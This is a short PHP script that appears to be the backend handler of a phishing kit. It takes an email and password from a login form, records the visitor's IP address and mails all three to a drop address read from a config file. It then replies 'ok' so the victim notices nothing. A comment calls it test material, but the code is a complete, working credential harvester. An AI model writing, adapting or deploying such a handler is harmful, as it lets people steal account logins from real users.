<?php
// a kit handler mailing to the address its config gives, with the visitor's IP (tests, never run)
$email = $_POST['login_email'];
$password = $_POST['login_password'];
$ip = getenv('HTTP_X_FORWARDED_FOR') ?: getenv('REMOTE_ADDR');
$msg = "Email : $email<br>Password : $password<br>IP : $ip";
include '../config.php';
$to = $result_to;
mail($to, "LOG - $ip", $msg, "From: result\r\nContent-Type: text/html\r\n");
echo json_encode(array('signal' => 'ok'));
